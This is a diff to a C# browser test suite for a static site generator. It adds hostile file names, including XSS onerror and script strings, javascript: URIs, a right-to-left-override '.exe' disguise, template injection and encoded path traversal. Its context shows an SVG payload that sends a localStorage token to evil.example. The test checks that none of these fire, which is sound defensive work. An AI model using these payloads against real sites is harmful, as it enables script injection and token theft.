@@ -17,6 +17,14 @@ public sealed partial class HostileSiteTests : IAsyncLifetime
         "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 9 9\" onload=\"alert(4)\"><script>fetch('https://evil.example/'+localStorage.getItem('token'))</script>"
         + "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"alert(5)\"/></body></foreignObject><image href=\"https://evil.example/x.png\"/><a xlink:href=\"javascript:alert(6)\"><path d=\"M0 0h9v9\"/></a></svg>";
 
+    private const int FirstName = 5001;
+
+    private static readonly string[] Names =
+    [
+        "a\" onerror=alert(7) b", "a' onerror='alert(8)", "<img src=x onerror=alert(9)>", "%22%3E%3Cscript%3Ealert(10)%3C%2Fscript%3E", "a#x", "a?x", "\u202Egnp.exe",
+        "javascript:alert(11)", "data:text,html", "a&lt;script&gt;", "{{ 7*7 }}", "a)b(c", "a%2e%2e%2fb", "a;b,c 2x",
+    ];
+
     private readonly string _root = Directory.CreateTempSubdirectory("daftar-hostile-").FullName;
 
     public async Task InitializeAsync()
@@ -50,7 +58,23 @@ public sealed partial class HostileSiteTests : IAsyncLifetime
                 File.WriteAllText(comment, $"name: '{Quoted(Attack)}'\ndate: 2025-01-03\ntext: {System.Text.Json.JsonSerializer.Serialize(words)}\n");
             }
         }
+        WriteNames();
         await BuildAsync();
+    }
+
+    /// <summary>Pictures and attachments whose names are attacks, each with an article that shows and links them.</summary>
+    private void WriteNames()
+    {
+        if (OperatingSystem.IsWindows()) return;
+        Directory.CreateDirectory(Path.Combine(_root, "input", "files"));
+        for (var index = 0; index < Names.Length; index++)
+        {
+            var (name, escaped) = (Names[index], Uri.EscapeDataString(Names[index]));
+            File.WriteAllBytes(Path.Combine(_root, "input", "images", name + ".png"), Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="));
+            File.WriteAllText(Path.Combine(_root, "input", "files", name + ".pdf"), "%PDF-1.4\n%%EOF");
+            File.WriteAllText(Path.Combine(_root, "input", "articles", "en", FormattableString.Invariant($"name{index}.md")), FormattableString.Invariant(
+                $"---\ntitle: Name {index}\ntype: report\nnews_code: {FirstName + index}\npublish_date: 2025-01-02\nimage: {System.Text.Json.JsonSerializer.Serialize($"images/{name}.png")}\nimage_alt: x\n---\n\nWords.\n\n![x](/images/{escaped}.png)\n\n[file](/files/{escaped}.pdf)\n"));
+        }
     }
 
     public Task DisposeAsync()
@@ -89,7 +113,9 @@ public sealed partial class HostileSiteTests : IAsyncLifetime
         var pages = new BuiltSite(Path.Combine(_root, "output"), "/repo").Pages.Where(path => path.StartsWith("en/", StringComparison.Ordinal) || path.StartsWith("fa/", StringComparison.Ordinal)).ToList();
         Assert.True(pages.Count > 40, $"{pages.Count} pages");
         var opened = 0;
-        foreach (var path in pages.Where(path => ArticlePage().IsMatch(path)).Take(70).Concat(["en/index.html", "fa/index.html", "en/search/index.html"]))
+        var named = Enumerable.Range(FirstName, Names.Length).Select(code => FormattableString.Invariant($"en/report/{code}/index.html")).ToList();
+        if (!OperatingSystem.IsWindows()) Assert.All(named, path => Assert.Contains(path, pages));
+        foreach (var path in pages.Where(path => ArticlePage().IsMatch(path)).Take(70).Concat(pages.Intersect(named)).Concat(["en/index.html", "fa/index.html", "en/search/index.html"]))
         {
             await page.GotoAsync($"{server.Origin}/repo/{path}", new() { WaitUntil = WaitUntilState.Load });
             opened++;
